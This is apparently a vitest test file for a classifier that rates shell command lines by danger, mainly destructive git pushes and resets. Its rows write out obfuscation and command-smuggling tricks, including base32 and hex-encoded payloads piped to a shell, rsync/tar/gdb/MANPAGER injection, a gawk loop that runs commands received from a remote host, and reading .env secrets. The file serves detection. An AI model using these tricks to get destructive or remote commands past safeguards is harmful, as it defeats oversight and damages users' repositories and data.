import { describe, expect, it } from 'vitest'
import type { Level } from '../../../src/model/level.ts'
import { levelOf } from '../../support/classify.ts'

type Row = readonly [line: string, level: Level]

const holds = (rows: readonly Row[]): void => {
  it.each(rows)('%s: %i', (line, level) => {
    expect(levelOf(line)).toBe(level)
  })
}

describe('words that a line puts together', () => {
  holds([
    ['a=(x git push --force); "${a[@]:1}"', 3],
    ['a=(git log --oneline x); "${a[@]:0:3}"', 1],
    ['f() { git push "${@:2}"; }; f x --force', 3],
    ['f() { git push "${@:2}"; }; f --force x', 1],
    ['declare -a a=(git push --force); "${a[@]}"', 3],
    ['f() { local -a o=(push --force); git "${o[@]}"; }; f', 3],
    ['x=--force; declare -a o=(push "$x"); git "${o[@]}"', 3],
    ['declare -a o=(push --tags); git "${o[@]}"', 1],
    ["declare -n r=c; c='git push --force'; $r", 3],
    ["declare -n r=c; c='git status'; $r", 1],
    ['git${IFS}push${IFS}--force', 3],
    ['IFS=_; c=git_push_--force; $c', 3],
    ['IFS=,; c=git,push,--force; $c', 3],
    ['IFS=-; c=a-b; echo $c', 1],
  ])
})

describe('text that reaches a shell', () => {
  holds([
    ['echo M5UXIIDQOVZWQIBNMY====== | base32 -d | sh', 3],
    ['echo M5UXIIDQOVZWQIBNMY====== | base32 -d', 1],
    ["echo 'git push' | sed 's/$/ --force/' | sh", 3],
    ["echo 'push --force' | sed 's/^/git /' | sh", 3],
    ["cat <(echo 'git reset --hard') | bash", 3],
    ["cat <(echo 'git reset --hard') | wc -l", 1],
    ["bash 3<<<'git push --force' <&3", 3],
    ["echo 'git push --force' > a.sh; cat a.sh | sh", 3],
    ["echo 'git push --force' > a.sh; sh < a.sh", 3],
    ["echo 'git push --force' > a.sh; cat a.sh", 1],
    ["bash --rcfile <(echo 'git push --force') -i", 3],
  ])
})

describe('programs that options and variables name', () => {
  holds([
    ['rsync -e \'sh -c "git push --force"\' a host:b', 3],
    ["rsync -avn -e 'ssh -p 2222' a host:b", 1],
    ["zip x.zip a -T -TT 'git reset --hard #'", 3],
    ["tar -I 'git push --force' -cf a.tar a", 3],
    ['tar -I zstd -cf a.tar a', 1],
    ["gdb -batch -ex 'shell git push --force'", 3],
    ["lldb -o 'platform shell git push --force'", 3],
    ["gdb -batch -ex 'info registers' ./a.out", 1],
    ["LESSOPEN='|git push --force %s' less README.md", 3],
    ['MANPAGER=\'sh -c "git reset --hard"\' man ls', 3],
    ['MANPAGER=cat man ls', 1],
    ['volta run --node 20 npm publish', 3],
    ['nvm exec 20 npm publish', 3],
    ['nvm exec npm test', 1],
    ['fnm exec --using=20 npm publish', 3],
    ['yarn workspaces foreach -A exec git push --force', 3],
    ['yarn workspaces foreach -Apt run build', 1],
    ["fish -c 'test -d .git; and git reset --hard'", 3],
    ["fish -c 'git diff --quiet; or git status'", 1],
  ])
})

describe('what scripts put together', () => {
  holds([
    [`python3 -c "import os; os.system('git push {}'.format('--force'))"`, 3],
    [`python3 -c "import os; os.system('git {1} {0}'.format('--hard', 'reset'))"`, 3],
    [`python3 -c "import os; os.system('git push %s' % '--force')"`, 3],
    [`python3 -c "import os; os.system('git %s %s' % ('reset', '--hard'))"`, 3],
    [`python3 -c "import os; os.system('git push %s' % x)"`, 2],
    [`python3 -c "print('git push %s' % '--force', 7 % 2)"`, 1],
    [`python3 -c "getattr(__import__('os'), 'sys' + 'tem')('git push --force')"`, 3],
    [`node -e "require('child_process')['exec' + 'Sync']('git push --force')"`, 3],
    [`node -e "util.promisify(cp.execFile)('git', ['push', '--force']) // child_process"`, 3],
    [`node -e "require('fs').rmSync(require('path').join(require('os').tmpdir(), 'x'), {recursive: true})"`, 1],
    [`python3 -c "import shutil, tempfile, os; shutil.rmtree(os.path.join(tempfile.gettempdir(), 'x'))"`, 1],
    [`perl -e '@c = ("git", "reset", "--hard"); system(@c)'`, 3],
    [`perl -e 'system(pack("H*", "6769742070757368202d66"))'`, 3],
    [`awk -v c='git reset --hard' 'BEGIN { system(c) }'`, 3],
    [`awk -v c='git reset --hard' 'BEGIN { print c }'`, 1],
    [`gawk 'BEGIN { s = "/inet/tcp/0/h.example/80"; while ((s |& getline c) > 0) system(c) }'`, 3],
    [`osascript -e 'tell application "Terminal" to do script "git push --force"'`, 3],
    [`pwsh -c "Start-Process git -ArgumentList 'push','--force'"`, 3],
    [`erl -noshell -eval 'os:cmd("git push --force"), halt().'`, 3],
    [`erl -noshell -eval 'io:format("git push --force"), halt().'`, 1],
    [`python3 -c "import configparser; c = configparser.ConfigParser(); c.read('.env'); print(c)"`, 3],
    [`python3 -c "import configparser; c = configparser.ConfigParser(); c.read('setup.cfg'); print(c)"`, 1],
  ])
})
